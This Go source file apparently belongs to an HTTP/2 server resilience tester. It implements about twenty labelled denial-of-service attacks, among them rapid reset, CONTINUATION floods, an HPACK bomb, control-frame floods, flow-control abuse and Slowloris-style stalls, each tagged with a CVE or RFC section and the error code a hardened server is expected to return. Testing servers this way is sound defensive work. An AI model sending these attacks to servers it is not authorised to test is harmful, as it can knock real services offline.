package h2

import (
	"bytes"
	"encoding/binary"
	"time"

	"golang.org/x/net/http2"
)

// Sizes of attacks.
const (
	// atOnce frames, or groups of frames, are sent at once.
	atOnce = 50
	// streams that holding attacks open: within what servers usually allow.
	streams = 100
	// tableBytes is the usual size of the table of HPACK, and fieldBytes of a field that nearly fills it.
	tableBytes, fieldBytes = 4096, 4000
	// named is how often a block of an HPACK bomb names that field: more than a head may have, but not four times it.
	named = 30
	// windowMax is the largest window.
	windowMax = 1<<31 - 1
)

const priorityUpdate http2.FrameType = 0x10

// Attacks are the known ones.
var Attacks = []Attack{
	{Name: "reset", Title: "open streams and reset them at once", Source: "CVE-2023-44487",
		Code: http2.ErrCodeEnhanceYourCalm, again: repeat(func(c *Client) {
			_ = c.WriteRSTStream(c.open(c.request("GET"), true), http2.ErrCodeCancel)
		})},
	{Name: "made-reset", Title: "open streams and open their windows too far, so that the server resets them",
		Source: "CVE-2025-8671", Code: http2.ErrCodeEnhanceYourCalm, again: repeat(func(c *Client) {
			_ = c.WriteWindowUpdate(c.open(c.request("GET"), true), windowMax)
		})},
	{Name: "malformed", Title: "send requests that are malformed, so that the server resets them",
		Source: "CVE-2025-8671", Code: http2.ErrCodeEnhanceYourCalm, again: repeat(func(c *Client) {
			c.open(c.request("GET", "connection", "close"), true)
		})},
	{Name: "continuation", Title: "send a head in CONTINUATION frames without end", Source: "VU#421644",
		Code: http2.ErrCodeEnhanceYourCalm, begin: beginHead, again: repeat(func(c *Client) {
			_ = c.WriteContinuation(1, false, []byte{0x82})
		})},
	{Name: "empty-continuation", Title: "send empty CONTINUATION frames", Source: "CVE-2019-9518",
		Code: http2.ErrCodeEnhanceYourCalm, begin: beginHead, again: repeat(func(c *Client) {
			_ = c.WriteContinuation(1, false, nil)
		})},
	{Name: "empty-headers", Title: "send empty HEADERS frames", Source: "CVE-2019-9518",
		Code: http2.ErrCodeEnhanceYourCalm, again: repeat(func(c *Client) { c.open(nil, true) })},
	{Name: "hpack", Title: "send small heads that decode to large ones", Source: "CVE-2016-6581",
		Code: http2.ErrCodeEnhanceYourCalm, begin: storeField, again: repeat(func(c *Client) {
			block := c.request("GET")
			c.open(append(block, bytes.Repeat([]byte{0x80 | 62}, named)...), true)
		})},
	{Name: "table-size", Title: "change the size of HPACK's table again and again in one head", Source: "RFC 7541 §4.2",
		Code: http2.ErrCodeCompression, again: func(c *Client) {
			c.open(append(bytes.Repeat([]byte{0x20, 0x3f, 0xe1, 0x1f}, 1000), c.request("GET")...), true)
		}},
	{Name: "settings", Title: "send SETTINGS frames, of which each is acknowledged", Source: "CVE-2019-9515",
		Code: http2.ErrCodeEnhanceYourCalm, again: repeat(func(c *Client) { _ = c.WriteSettings() })},
	{Name: "ping", Title: "send PING frames, of which each is answered", Source: "CVE-2019-9512",
		Code: http2.ErrCodeEnhanceYourCalm, again: repeat(func(c *Client) { _ = c.WritePing(false, [8]byte{}) })},
	{Name: "empty-data", Title: "send empty DATA frames", Source: "CVE-2019-9518",
		Code: http2.ErrCodeEnhanceYourCalm, begin: beginBody, again: repeat(func(c *Client) {
			_ = c.WriteData(1, false, nil)
		})},
	{Name: "padding", Title: "send DATA frames with padding alone", Source: "CVE-2019-9518",
		Code: http2.ErrCodeEnhanceYourCalm, begin: beginBody, again: repeat(func(c *Client) {
			_ = c.WriteDataPadded(1, false, nil, []byte{0})
		})},
	{Name: "priority", Title: "send PRIORITY frames", Source: "CVE-2019-9513",
		Code: http2.ErrCodeEnhanceYourCalm, again: repeat(func(c *Client) {
			_ = c.WritePriority(1, http2.PriorityParam{StreamDep: 3, Weight: 16})
		})},
	{Name: "priority-update", Title: "send PRIORITY_UPDATE frames", Source: "RFC 9218 §7.1",
		Code: http2.ErrCodeEnhanceYourCalm, again: repeat(func(c *Client) {
			_ = c.WriteRawFrame(priorityUpdate, 0, 0, []byte("\x00\x00\x00\x01u=1"))
		})},
	{Name: "window-update", Title: "open the window of the connection in small steps", Source: "CVE-2019-9517",
		Code: http2.ErrCodeEnhanceYourCalm, again: repeat(func(c *Client) { _ = c.WriteWindowUpdate(0, 1) })},
	{Name: "wide-window-update", Title: "open the window of the connection in steps of 1 KiB", Source: "CVE-2019-9517",
		Code: http2.ErrCodeEnhanceYourCalm, again: repeat(func(c *Client) { _ = c.WriteWindowUpdate(0, 1024) })},
	{Name: "window-overflow", Title: "open the window of the connection too far", Source: "RFC 9113 §6.9.1",
		Code: http2.ErrCodeFlowControl, again: func(c *Client) { _ = c.WriteWindowUpdate(0, windowMax) }},
	{Name: "zero-window", Title: "ask for large responses on many streams whose windows stay closed",
		Source: "CVE-2019-9517", Settings: noWindow, begin: askOften},
	{Name: "dribble", Title: "take a byte each second of large responses on many streams", Source: "CVE-2019-9511",
		Settings: noWindow, begin: askOften, Each: time.Second, again: func(c *Client) {
			for id := uint32(1); id < c.stream; id += 2 * streams / 10 {
				_ = c.WriteWindowUpdate(id, 1)
			}
		}},
	{Name: "slow-head", Title: "send a byte of a request's head every 3 s", Source: "Slowloris", Each: 3 * time.Second,
		begin: beginHead, again: func(c *Client) { _ = c.WriteContinuation(1, false, []byte{0x82}) }},
	{Name: "slow-frame", Title: "send a byte of a frame of 16 KiB each second", Source: "Slowloris", Each: time.Second,
		begin: func(c *Client) {
			c.out.Write([]byte{0, 0x40, 0, byte(http2.FrameHeaders), 0, 0, 0, 0, 1})
		}, again: func(c *Client) { c.out.WriteByte(0x82) }},
	{Name: "slow-body", Title: "send a byte of a request's body each second on many streams", Source: "Slowloris",
		Each: time.Second, begin: func(c *Client) {
			for range streams {
				c.open(c.request("POST"), false)
			}
		}, again: func(c *Client) {
			for id := uint32(1); id < c.stream; id += 2 {
				_ = c.WriteData(id, false, []byte{'x'})
			}
		}},
}

var noWindow = []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}

func repeat(one func(*Client)) func(*Client) {
	return func(c *Client) {
		for range atOnce {
			one(c)
		}
	}
}

// beginHead begins a head that does not end.
func beginHead(c *Client) {
	_ = c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x82}})
}

// beginBody begins a request whose body does not end.
func beginBody(c *Client) { c.open(c.request("POST"), false) }

// storeField has the other end store a large field, the only one in its table.
func storeField(c *Client) {
	c.open(append(c.request("GET"), stored("x-b", bytes.Repeat([]byte{'b'}, fieldBytes))...), true)
}

// stored is a field that its receiver is to store (RFC 7541 §6.2.1). Its value has more than 127 bytes.
func stored(name string, value []byte) []byte {
	block := append([]byte{0x40, byte(len(name))}, name...)
	block = binary.AppendUvarint(append(block, 0x7f), uint64(len(value)-0x7f))
	return append(block, value...)
}

func askOften(c *Client) {
	for range streams {
		c.open(c.request("GET"), true)
	}
}
